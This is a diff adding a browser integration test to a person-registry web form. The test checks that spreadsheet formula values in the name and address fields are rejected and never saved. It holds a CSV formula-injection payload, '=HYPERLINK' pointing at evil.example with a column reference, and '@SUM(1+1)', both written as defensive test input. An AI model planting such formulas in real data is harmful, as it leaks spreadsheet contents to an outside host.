@@ -96,6 +96,23 @@ class RegistryBrowserIT {
     }
 
     @Test
+    void aNameOrAddressThatASpreadsheetWouldRunAsAFormulaIsRefusedNextToItsField() {
+        pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");
+        String formula = "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")";
+
+        fill("person:fullName", formula);
+        fill("person:birthDate", "1975");
+        driver.findElement(By.cssSelector("label[for='person:sex:0']")).click();
+        fill("person:address", "@SUM(1+1)");
+        save();
+
+        assertThat(messageFor("person:fullName")).contains("Không được bắt đầu bằng dấu =, +, -, @");
+        assertThat(messageFor("person:address")).contains("Không được bắt đầu bằng dấu =, +, -, @");
+        assertThat(driver.findElement(By.id("person:fullName")).getAttribute("value")).isEqualTo(formula);
+        assertThat(db.row("select count(*) as n from person where full_name like '=HYPERLINK%'").get("n")).isEqualTo(0L);
+    }
+
+    @Test
     void aSimilarPersonMustBeAcknowledgedAndAnExistingIdIsBlockedWithALink() {
         pages.openAs(DemoUser.OFFICER_TUAN_GIAO, "/registry/person-form.xhtml");
         registerQuickly("Lường Văn Hặc", "1948", 0, "011048009876");
